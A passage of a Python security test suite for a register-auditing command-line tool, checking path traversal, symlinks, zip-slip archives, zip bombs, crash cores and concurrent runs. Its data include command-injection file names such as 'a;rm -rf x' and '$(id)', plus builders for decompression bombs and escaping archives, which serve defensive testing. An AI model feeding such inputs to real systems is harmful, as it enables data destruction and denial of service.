        if os.path.isfile(p) and 'hecha.db' not in p:
            with open(p, 'rb') as f:
                said += [d.decode('utf-8', 'replace') for d in unpacked(f.read())]
    shown = [w for w in WRITTEN if any('王' + w in s for s in said)]
    ok('no number in a name is legible', not shown, shown)


def unpacked(data):
    """bytes, and what they pack"""
    if data[:2] != b'PK':
        return [data]
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [d for n in z.namelist() for d in unpacked(z.read(n))]


def created(trace, numbers):
    """arguments with numbers, and files made for others to read"""
    arguments, modes = set(), set()
    with open(trace, errors='replace') as f:
        for line in f:
            if 'execve(' in line and holding(line.encode(), numbers):
                arguments.add(line)
            m = re.search(r'(?:openat|mkdir|creat)\(.*"([^"]*)".*?(0[0-7]{3,4})\)', line)
            if m and ('O_CREAT' in line or 'mkdir(' in line or 'creat(' in line) \
                    and m.group(1).startswith(DIR) and int(m.group(2), 8) & 0o077 \
                    and umask_lets(m.group(1)):
                modes.add(m.group(1))
    return arguments, modes


def umask_lets(path):
    """is it really there for others? The program's mask takes bits away"""
    return os.path.exists(path) and os.stat(path).st_mode & 0o077


def dies(env, numbers, temp):
    """no core, and what a kill leaves is for its owner"""
    for name in (signal.SIGABRT, signal.SIGSEGV, signal.SIGKILL):
        with subprocess.Popen(
                [HECHA, 'audit', PLAN, os.path.join(DATA, 'fixtures/faulty'), '-o',
                 place('dead')], env=env, cwd=temp, stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL, preexec_fn=lambda: resource.setrlimit(
                    resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)) as p:
            time.sleep(0.4)
            p.send_signal(name)
            p.wait()
        cores = [f for f in tree(DIR) if os.path.basename(f).startswith('core')]
        ok('%s leaves no core' % name.name, not cores, cores)
        wide = [f for f in list(tree(temp)) + list(tree(place('dead')))
                if not os.path.islink(f) and os.stat(f).st_mode & 0o077]
        ok('nor anything that others can read', not wide, wide)


# --- paths

LEADING = (
    '../x', '../../x', '/etc/cron.d/x', '..', '.', '...', '~/x', '~root', '\\\\x\\y',
    'C:\\x', '..\\x', 'a/../../x', './x', 'x/', '//x', '%2e%2e%2fx', '-rf', '--help',
    'a;rm -rf x', '$(id)', '`id`', '|id', 'con', 'aux.xml', '..%00x', '\u2025/x',
    '．．／x', '.hecha-000000')


def paths():
    outside = write('outside/secret', 'geheim')
    before = tree(place('outside'))
    ids = street(['王石'] * len(LEADING))
    for i, name in enumerate(LEADING):
        ids = ids.replace('"h%d"' % i, '"%s"' % escaped(name)).replace(
            '"m%d"' % i, '"%s"' % escaped(name))
    os.makedirs(place('w', 'deep'))
    write('w/in/r.xml', ids)
    made = Made('audit', PLAN, place('w/in'), '-o', place('w/deep/out'),
                cwd=place('w'))
    held = [r[0] for r in rows('SELECT id FROM household', 'w/deep/out/hecha.db')]
    ok('ids that are paths', made.status in (1, 3) and len(held) >= 20,
       '%d: %s' % (len(held), made.said))
    db = 'w/deep/out/hecha.db'
    for kind, format_ in (('visits', 'xlsx'), ('overview', 'html'),
                          ('problems', 'csv'), ('checklist', 'docx')):
        made = Made('report', kind, '-f', format_, '-o',
                    place('w/deep/out/2.' + format_), db=db)
        ok('%s of them' % kind, made.status == 0, made.said)
    made = Made('seal', '-o', place('w/deep/out/p.zip'), db=db)
    ok('a package of them', made.status == 0, made.said)
    with zipfile.ZipFile(place('w/deep/out/p.zip')) as z:
        bad = [n for n in z.namelist() if '..' in n or n.startswith('/') or '\\' in n]
    ok('has no path by an id', not bad, bad)
    made = Made('export', 'register', '-o', place('w/deep/out/e.xlsx'), db=db)
    ok('ledgers of them', made.status == 0, made.said)
    found = {p for p in tree(place('w')) if not p.startswith(
        (place('w/in'), place('w/deep/out')))}
    ok('nothing is anywhere else', found == {place('w/deep')} and
       tree(place('outside')) == before, found)
    links(outside, before)
    archives(outside)


def links(outside, before):
    """what is to be written where a link leads elsewhere"""
    db = 'w/deep/out/hecha.db'
    for name, target in (('l.html', outside), ('l2.html', place('outside', 'none')),
                         ('l3.html', '/dev/full'), ('l4.html', '/dev/null')):
        os.symlink(target, place('w', name))
        made = Made('report', 'overview', '-f', 'html', '-o', place('w', name), db=db)
        stays = os.readlink(place('w', name)) == target
        ok('%s, which is a link, stays one' % name, stays, made.said)
        if target.startswith('/dev/'):
            ok('to a device: refused', made.status == 2, made.said)
        else:
            ok('to a file: what it leads to is whole or not there',
               not os.path.exists(target) or open(target).read() == 'geheim' or
               '</html>' in open(target).read(), made.said)
    os.symlink(place('h2.db'), place('link.db'))
    fresh('h2.db')
    made = Made('import', os.path.join(DATA, 'fixtures/minimal/staff.xml'),
                db='link.db')
    ok('a database that is a link is refused', made.status == 4, made.said)
    os.symlink(place('outside'), place('aside'))
    made = Made('audit', PLAN, os.path.join(DATA, 'fixtures/minimal/register.xml'),
                '-o', place('aside/a'))
    ok('a folder on the way may be one', made.status == 1, made.said)
    made = Made('check', '--full', db='aside/a/hecha.db')
    ok('also to a database', made.status == 1, made.said)
    shutil.rmtree(place('outside/a'))
    # a folder that is read leads to itself, and to what is not in it
    os.makedirs(place('loop'))
    os.symlink(place('loop'), place('loop', 'again'))
    os.symlink(outside, place('loop', 'secret.xml'))
    os.mkfifo(place('loop', 'pipe.xml'))
    made = Made('import', place('loop'), db='h2.db', limit=60)
    ok('a folder that holds itself, and a pipe, comes to an end',
       made.status in (0, 3) and 'geheim' not in made.said, made.said)


def entries(name, files):
    with zipfile.ZipFile(place(name), 'w') as z:
        for path, data in files:
            z.writestr(path, data)
    return place(name)


def archives(outside):
    """packages whose entries lead elsewhere"""
    whole = place('w/deep/out/p.zip')
    for i, name in enumerate(('../x', '/tmp/x-hecha', 'a/../../x', '..\\x', 'C:/x',
                              'basis/../../x', './x', 'x//y', 'con\x01x')):
        with zipfile.ZipFile(whole) as z:
            files = [(n, z.read(n)) for n in z.namelist()] + [(name, b'x')]
        path = entries('slip%d.zip' % i, files)
        before = set(tree(DIR))
        made = Made('verify', path, '--unsigned', db='h2.db')
        ok('a package with %r does not hold' % name, made.status in (3, 7), made.said)
        made = Made('collect', path, '--unsigned', db='county%d.db' % i)
        ok('%r: nor is it collected' % name, made.status in (2, 3, 7), made.said)
        more = {p for p in set(tree(DIR)) - before if 'county' not in p}
        ok('%r: nothing comes out of it' % name, not more and
           not os.path.exists('/tmp/x-hecha'), more)
    with zipfile.ZipFile(place('link.zip'), 'w') as z:
        entry = zipfile.ZipInfo('manifest.xml')
        entry.external_attr = 0o120777 << 16
        z.writestr(entry, outside)
    made = Made('verify', place('link.zip'), '--unsigned', db='h2.db')
    ok('a link in a package does not hold', made.status in (3, 7) and
       'geheim' not in made.said, made.said)


# --- zips

MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'


def book(path, sheet, more=()):
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('xl/workbook.xml', '<workbook xmlns="%s" xmlns:r="%s"><sheets>'
                   '<sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>'
                   % (MAIN, REL))
        z.writestr('xl/_rels/workbook.xml.rels', '<Relationships><Relationship'
                   ' Id="r1" Type="%s/worksheet" Target="worksheets/sheet1.xml"/>'
                   '</Relationships>' % REL)
        with z.open('xl/worksheets/sheet1.xml', 'w', force_zip64=True) as f:
            for p in sheet:
                f.write(p)
        for name, data in more:
            z.writestr(name, data)
    return path


def lying(path, size):
    """its sheet's sizes in both headers say so much"""
    with open(path, 'rb') as f:
        data = bytearray(f.read())
    for mark, at, name_at in ((b'PK\x03\x04', 22, 30), (b'PK\x01\x02', 24, 46)):
        i = -1
        while (i := data.find(mark, i + 1)) >= 0:
            if data[i + name_at:].startswith(b'xl/worksheets/sheet1.xml'):
                data[i + at:i + at + 4] = struct.pack('<I', size)
    with open(path, 'wb') as f:
        f.write(data)
    return path


def overlapping(path, n):
    """n entries that share the bytes of one"""
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('a', bytes(10 << 20))
    with open(path, 'rb') as f:
        data = f.read()
    begin = data.index(b'PK\x01\x02')
    entry, local = data[begin:data.index(b'PK\x05\x06')], data[:begin]
    many = b''.join(entry[:46] + (b'%05d' % i)[-1:] + entry[47:] for i in range(10))
    many = many * (n // 10)
    end = struct.pack('<4sHHHHIIH', b'PK\x05\x06', 0, 0, n, n, len(many),
                      len(local), 0)
    with open(path, 'wb') as f:
        f.write(local + many + end)
    return path


def zips():
    head = b'<worksheet xmlns="%s"><sheetData>' % MAIN.encode()
    empty = [head + b'</sheetData></worksheet>']
    bomb = [head] + [b' ' * (1 << 20)] * 1024
    fresh()
    for name, path in (
            ('a gigabyte of blanks', book(place('bomb.xlsx'), bomb)),
            ('a size that is a lie', lying(shutil.copy(
                place('bomb.xlsx'), place('lie.xlsx')), 10)),
            ('one that is too small by a byte', lying(
                book(place('lie2.xlsx'), empty), len(empty[0]) - 1)),
            ('one that is far too large', lying(
                book(place('lie3.xlsx'), empty), 0x7fffffff)),
            ('70,000 entries', book(place('many.xlsx'), empty, (
                ('e%d' % i, '') for i in range(70000)))),
            ('entries that share their bytes', overlapping(place('over.xlsx'), 1000)),
            ('nested archives', book(place('nest.xlsx'), empty, [
                ('xl/workbook2.xml', open(place('bomb.xlsx'), 'rb').read())]))):
        for command in (('import', path), ('verify', path, '--unsigned'),
                        ('convert', path, '-o', place('c'))):
            old = resource.getrusage(resource.RUSAGE_CHILDREN)
            made = Made(*command, preexec_fn=lambda: resource.setrlimit(
                resource.RLIMIT_FSIZE, (200 << 20, 200 << 20)))
            new = resource.getrusage(resource.RUSAGE_CHILDREN)
            written = (new.ru_oublock - old.ru_oublock) // 2048
            good = made.status in (3, 7) and 'hecha: ' in made.err
            if name == 'nested archives' and command[0] != 'verify':
                good = made.status == 3
            ok('%s: refused by %s' % (name, command[0]), good, made.said)
            ok('%s: 200 MB are not written' % name, written < 200, written)
            ok('%s: soon' % name, WATCHED or made.took < 30, made.took)
    left = [p for p in tree(DIR) if '.hecha-' in p]
    ok('nothing is left', not left, left)


# --- together

def at_once(*commands, cwd=None):
    """all started before the first is waited for: status and what was said"""
    started = [subprocess.Popen(
        [HECHA, '--lang', 'en', *c], stdin=subprocess.DEVNULL, cwd=cwd,
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT) for c in commands]
    ends = [p.communicate(timeout=600)[0].decode() for p in started]
    return [(p.returncode, said) for p, said in zip(started, ends)]


def of_villages(name, first, n):
    return write(name, ROOT + ''.join(
        '<village code="%012d" name="x%d"/>\n' % (379999001000 + i, i)
        for i in range(first, first + n)) + '</register>')


def whole(db):
    return rows('PRAGMA integrity_check', db) == [('ok',)]


def together():
    each = 20000 if FULL else 2000
    files = [of_villages('t/%d.xml' % i, i * each, each) for i in range(4)]
    db = place('h.db')
    for turn in range(10 if FULL else 2):
        fresh()
        ends = at_once(*[('--db', db, 'import', f) for f in files])
        ok('four imports at once, %d: all do it' % turn,
           [e[0] for e in ends] == [0] * 4, ends)
        ok('all rows are there', rows('SELECT COUNT(*), COUNT(DISTINCT code)'
           ' FROM village') == [(4 * each, 4 * each)] and whole('h.db'))
        fresh()
        ends = at_once(*[('--db', db, 'import', files[0])] * 2)
        ok('one file twice at once: both do it', [e[0] for e in ends] == [0, 0], ends)
        ok('one has it, and the other knows', sorted(
            bool(re.search('unchanged 1', e[1])) for e in ends) == [False, True] and
           rows('SELECT COUNT(*) FROM village') == [(each,)], ends)
    street = os.path.join(DATA, 'fixtures/faulty')
    for turn in range(5 if FULL else 1):
        for tail in ('', '-wal', '-shm'):
            with contextlib.suppress(FileNotFoundError):
                os.unlink(db + tail)
        ends = at_once(*[('--db', db, 'init', '--plan', PLAN)] * 4)
        ok('four make one database: one does it',
           sorted(e[0] for e in ends) == [0, 4, 4, 4] and whole('h.db'), ends)
        Made('import', street)
        ends = at_once(('--db', db, 'check'), ('--db', db, 'check', '--full'))
        ok('two checks at once', all(e[0] == 1 or e[0] == 4 and
           'hecha: ' in e[1] for e in ends) and whole('h.db'), ends)
        runs = rows('SELECT COUNT(*) FROM hc_run')[0][0]
        ok('each that says so has made its run',
           runs == sum(e[0] == 1 for e in ends), (runs, ends))
        found = rows('SELECT COUNT(*) FROM hc_finding WHERE run = 1')
        ends = at_once(*[('--db', db, 'report', 'problems', '-f', f, '-o',
                          place('p.' + f)) for f in ('xlsx', 'csv', 'json')],
                       ('--db', db, 'check', '--full'))
        ok('three reports beside a check', [e[0] for e in ends[:3]] == [0] * 3, ends)
        ok('of whole runs', len(json.load(open(place('p.json')))['findings']
           if isinstance(json.load(open(place('p.json'))), dict) else
           json.load(open(place('p.json')))) == found[0][0])
        out = place('audit%d' % turn)
        ends = at_once(*[('audit', PLAN, street, '-o', out)] * 2)
        ok('two audits in one folder: one does it', sorted(
            e[0] for e in ends) in ([1, 4], [1, 1]), ends)
        ok('the other says why', all(e[0] == 1 or 'another audit' in e[1]
                                     for e in ends), ends)
        ok('the folder is whole', whole('audit%d/hecha.db' % turn) and not
           [p for p in tree(out) if '.hecha-' in p or '-kept-' in p])
        ends = at_once(*[('--db', db, 'submit', '--to', 'https://127.0.0.1:1/',
                          '--retries', '0')] * 2)
        ok('two submit at once: each says that it waits, or why not',
           all(e[0] in (4, 6) for e in ends) and whole('h.db'), ends)
        ok('the package is there once', rows(
            'SELECT COUNT(*) FROM hc_outbox') == [(1,)],
           rows('SELECT COUNT(*) FROM hc_outbox'))


# --- size

def size():
    n = 1000000 if FULL else 50000
    with open(place('big.xml'), 'w') as f:
        f.write(ROOT)
        for i in range(n):
            f.write('<household id="h%07d" village="379999001001" head-name="王石"'
                    ' size="1"><member id="m%07d" name="王石" relation="01"'
                    ' number="379999198001010016"/></household>\n' % (i, i))
        f.write('</register>')
    fresh()
    status, took, most = usage('-q', 'import', '-j', '2', place('big.xml'))
    print('# %d records: %.1f s, %.1f MB' % (n, took, most))
    stored = rows('SELECT COUNT(*) FROM household')[0][0]
    ok('%d records are read' % n, status == 0 and stored == n, (status, stored))
    ok('in 32 MB, whatever their number', WATCHED or most < 32,
       '%.1f MB' % most)
    # what would make it tell, in a schema: keys are kept until the end
    counting = re.compile(r'<xs:(?:key|keyref|unique)\b|"xs:ID(?:REFS?)?"')
    schemas = {f: open(os.path.join(DATA, 'schemas', f), encoding='utf-8').read()
               for f in os.listdir(os.path.join(DATA, 'schemas'))
               if f.endswith('.xsd')}
    ok('no schema has a key or an ID', len(schemas) > 10 and not [
        f for f, text in schemas.items() if counting.search(text)])
    ok('one that had would be seen', counting.search('<xs:key name="k">') and
       counting.search('type="xs:ID"'))


FULL = bool(os.environ.get('TORTURE_EACH'))
shutil.rmtree(DIR, ignore_errors=True)
os.makedirs(DIR)
globals()[WHAT]()
print('1..%d' % count)
